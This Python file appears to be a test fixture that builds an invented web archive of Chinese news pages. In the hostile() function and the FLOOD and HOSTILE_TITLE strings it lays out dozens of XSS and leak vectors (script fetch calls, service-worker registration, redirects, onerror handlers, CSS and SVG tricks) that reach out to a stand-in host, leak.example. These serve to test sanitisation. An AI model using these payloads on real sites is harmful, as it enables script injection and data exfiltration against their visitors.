"""An invented archive that went through the real door. Reads nothing of Datasette, which takes seconds to load."""

import gzip
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from io import BytesIO
from pathlib import Path
from urllib.parse import urlsplit

import brotli

from archive.capture import Exchange
from archive.place import Place, SiteBook, SiteFacts
from archive.run.folder import Archive, RunInfo

BEGAN = datetime(2026, 11, 22, 4, 0, tzinfo=UTC)
ORIGIN = (
    "武汉市江岸区的社区工作者王敏清晨六点出门，挨家挨户敲门登记体温，这样的日子已经过了十七天。",
    "她负责的两栋楼住着二百一十三户人家，其中独居老人三十一位，买菜取药都要她和志愿者一趟一趟送上门。",
    "区里调来的十二名干部下沉到社区，分片包干，夜里轮流值守卡口，白天清运物资，消杀楼道。",
    "“楼上楼下都叫得出名字，谁家缺什么心里就有数。”王敏说，口罩紧缺时她把自己的省下来给了保洁员。",
    "社区医院的床位从四十张增加到一百二十张，发热门诊与普通门诊分开，转运车辆二十四小时待命。",
    "王敏盼着疫情早一点过去，到那时她要先睡一个整觉，再回家给父母包一顿韭菜鸡蛋馅的饺子。",
)
TRADITIONAL = (
    "武漢市江岸區的社區工作者王敏清晨六點出門，挨家挨戶敲門登記體溫，這樣的日子已經過了十七天。",
    "她負責的兩棟樓住着二百一十三戶人家，其中獨居老人三十一位，買菜取藥都要她和志願者一趟一趟送上門。",
    "區裏調來的十二名幹部下沉到社區，分片包幹，夜裏輪流值守卡口，白天清運物資，消殺樓道。",
    "“樓上樓下都叫得出名字，誰家缺什麼心裏就有數。”王敏說，口罩緊缺時她把自己的省下來給了保潔員。",
    "社區醫院的床位從四十張增加到一百二十張，發熱門診與普通門診分開，轉運車輛二十四小時待命。",
    "王敏盼着疫情早一點過去，到那時她要先睡一個整覺，再回家給父母包一頓韭菜雞蛋餡的餃子。",
)
RIVER = (
    "黄河三门峡水文站的测船昨天首航，今年的春汛比往年来得晚，水位平稳，含沙量处在低值。",
    "站长介绍，COVID-19期间观测不断线，无人机和雷达流速仪代替了一半的人工测验，数据每五分钟报一次。",
    "沿河十一座闸门完成检修，灌区的小麦即将返青，首轮春灌预计用水一亿二千万立方米。",
)
FLOOD = (
    "洪水通报说&lt;/p&gt;&lt;script&gt;alert(4)&lt;/script&gt;下游三县已转移群众一千二百人，堤防无险情。",
    "记者在大堤上看到，&lt;img src=x onerror=alert(5)&gt;抢险队员正在加固子堤，编织袋和块石沿线堆放整齐。",
    "水文部门预计洪峰后天上午通过，&lt;iframe src=//leak.example&gt;请沿岸居民留意广播，不要到河滩上去。",
)
HOSTILE_TITLE = "&lt;script&gt;alert(1)&lt;/script&gt;洪水通报&quot;&gt;&lt;img src=x onerror=alert(2)&gt;"


class Book:
    """Every address under /a/ is an article, every other is something else."""

    def place(self, url: str, on: date) -> Place:
        parts = urlsplit(url)
        role = "article" if parts.path.startswith("/a/") else "other"
        return Place(parts.hostname or "", role, url)

    def facts(self) -> Iterator[SiteFacts]:
        """Two of the sites have names."""
        yield SiteFacts("www.copy.example", "青山网", ("青山在线",), "mainland", "province")
        yield SiteFacts("www.hk.example", "香江報", (), "hongkong", "press")


@dataclass(frozen=True)
class Served:
    """A response to be archived: `body` as it is to be read, `coding` how it is sent."""

    url: str
    body: bytes
    kind: str = "text/html; charset=utf-8"
    status: str = "200 OK"
    coding: str = ""
    failure: str | None = None
    truncated: str | None = None
    headers: str = ""

    def exchange(self, number: int) -> Exchange:
        parts = urlsplit(self.url)
        request = f"GET {parts.path} HTTP/1.1\r\nHost: {parts.netloc}\r\n\r\n".encode()
        response = None if self.failure else BytesIO(self.wire())
        moment = BEGAN + timedelta(seconds=number)
        return Exchange(self.url, moment, request, response, failure=self.failure, truncated=self.truncated)

    def wire(self) -> bytes:
        coders: dict[str, Callable[[bytes], bytes]] = {
            "gzip": lambda data: gzip.compress(data, mtime=0),
            "br": brotli.compress,
            "": bytes,
            "chunked": bytes,
        }
        sent = coders[self.coding](self.body)
        lines = [f"HTTP/1.1 {self.status}", f"Content-Type: {self.kind}", *self.headers.splitlines()]
        if self.coding == "chunked":
            lines.append("Transfer-Encoding: chunked")
            sent = b"%x\r\n%b\r\n0\r\n\r\n" % (len(sent), sent)
        else:
            lines.append(f"Content-Length: {len(sent)}")
            lines += [f"Content-Encoding: {self.coding}"] if self.coding else []
        return "\r\n".join([*lines, "", ""]).encode() + sent


def page(title: str, paragraphs: tuple[str, ...], source: str = "", when: str = "", more: str = "") -> str:
    """A plain news page."""
    body = "".join(f"<p>　　{text}</p>" for text in paragraphs)
    return (
        f"<!DOCTYPE html><html><head><meta charset=utf-8><title>{title}</title></head><body><h1>{title}</h1>"
        f'<div class="info">{when}　来源：{source}</div><div class="content">{body}</div>{more}</body></html>'
    )


def invented() -> list[Served]:
    """Four copies of one text, an unrelated one, and one capture for each kind of trouble."""
    links = '<p><img src="/pic/map.png" alt="map"><a href="http://www.copy.example/a/2.html">next</a></p>'
    style = '<link rel="stylesheet" href="/site.css">'
    first = page("社区里的十七天", ORIGIN, "人民日报", "2020-02-10 05:08", links + style)
    copied = page("社区里的十七天", ORIGIN[:-1], "人民日报", "2020-02-10 08:39").replace("utf-8", "gb2312")
    taiwan = page("社區裏的十七天", TRADITIONAL, "人民日報", "2020-02-11 09:30").replace("utf-8", "big5")
    taiwan = taiwan.replace("来源", "來源")
    river = page("黄河春汛首航", RIVER, "河声社", "2020-02-12 10:00")
    robots = Served("http://www.origin.example/robots.txt", b"User-agent: *\nDisallow:\n", "text/plain")
    return [
        robots,
        Served("http://www.origin.example/a/1.html", first.encode(), coding="gzip"),
        Served("http://www.copy.example/a/2.html", copied.encode("gb18030"), "text/html"),
        Served("http://www.hk.example/a/3.html", taiwan.encode("big5hkscs"), "text/html", coding="br"),
        Served("http://www.river.example/a/4.html", river.encode(), coding="chunked"),
        Served("http://www.origin.example/pic/map.png", PIXEL, "image/png"),
        Served("http://www.origin.example/site.css", b"@import 'x.css'; h1 { color: #a12a1f }", "text/css"),
        Served("http://www.second.example/a/1.html", first.encode(), coding="gzip"),
        Served("http://www.copy.example/a/gone.html", b"<h1>404</h1>", status="404 Not Found"),
        Served("http://www.copy.example/a/dead.html", b"", failure="timeout"),
        Served("http://www.copy.example/a/pdf.html", b"%PDF-1.4 not a page", "application/pdf"),
        Served("http://www.evil.example/a/5.html", hostile("http://leak.example").encode()),
        Served(
            "http://www.evil.example/a/6.html", page(HOSTILE_TITLE, FLOOD, "&lt;b&gt;", "2020-02-13").encode()
        ),
    ]


PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415408d763d8b0a10300"
    "03870182a4d5e4a30000000049454e44ae426082"
)


def hostile(leak: str) -> str:
    """A page that tries to run something, to ask for something at `leak`, and to lead the reader away."""
    return page(
        HOSTILE_TITLE,
        (RIVER[0], "洪水通报说，" + RIVER[2]),
        "<b onmouseover=alert(3)>河声社</b>",
        "2020-02-12 11:00",
        f"""
<base href="{leak}/base/"><meta http-equiv="refresh" content="0;url={leak}/refresh">
<link rel="preconnect" href="{leak}"><link rel="dns-prefetch" href="{leak}"><link rel="prefetch" href="{leak}/prefetch">
<link rel="stylesheet" href="{leak}/sheet.css"><link rel="icon" href="{leak}/icon.ico">
<style>@import url("{leak}/import.css"); @import '{leak}/import2.css'; body {{ background: url({leak}/bg.png) }}
@font-face {{ font-family: f; src: url({leak}/font.woff) }} p {{ font-family: f; c: u\\72l({leak}/escaped.png);
background-image: image-set("{leak}/set.png" 1x) }}</style>
<script>document.title = 'owned'; fetch('{leak}/fetch'); navigator.serviceWorker.register('{leak}/sw.js');
top.location = '{leak}/top'; new Image().src = '{leak}/js.png'</script>
<script src="{leak}/script.js"></script><noscript><img src="{leak}/noscript.png"></noscript>
<img src="{leak}/img.png" onerror="fetch('{leak}/onerror')" onload="alert(1)" srcset="{leak}/srcset.png 2x">
<picture><source srcset="{leak}/source.png"><img src="x"></picture>
<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('{leak}/svg')"><image href="{leak}/svg.png"/>
<script>fetch('{leak}/svgscript')</script><a xlink:href="{leak}/svga"><text>x</text></a></svg>
<math><mtext><img src="{leak}/math.png" onerror="alert(1)"></mtext></math>
<iframe src="{leak}/iframe" srcdoc="<script>parent.owned = 1</script>"></iframe><object data="{leak}/object"></object>
<embed src="{leak}/embed"><video src="{leak}/video" poster="{leak}/poster.png" autoplay></video>
<audio src="{leak}/audio" autoplay></audio><table background="{leak}/table.png"><tr><td>x</td></tr></table>
<form id="f" action="{leak}/form"><input type="image" src="{leak}/input.png">
<button formaction="{leak}/b">x</button></form>
<a id="away" href="{leak}/click" ping="{leak}/ping">away</a><a href="javascript:alert(1)">js</a>
<div style="background: url('{leak}/style.png'); position: fixed; inset: 0">x</div>
<template><img src="{leak}/template.png"></template><p title="</noscript><img src={leak}/mutated.png>">y</p>
<body onload="fetch('{leak}/bodyload')" background="{leak}/body.png">""",
    )


def build(folder: Path, pages: list[Served], sites: SiteBook | None = None) -> Path:
    """An archive of these responses; the path of its database. Without site files every address is a page."""
    info = RunInfo("20261122T040000Z-test", "crawl invented", BEGAN)
    with Archive(folder, sites or Book()).run(info) as live:
        for number, served in enumerate(pages):
            live.take(served.exchange(number))
        live.finish(ending="finished", ended_at=BEGAN + timedelta(minutes=1))
    return folder / "archive.db"
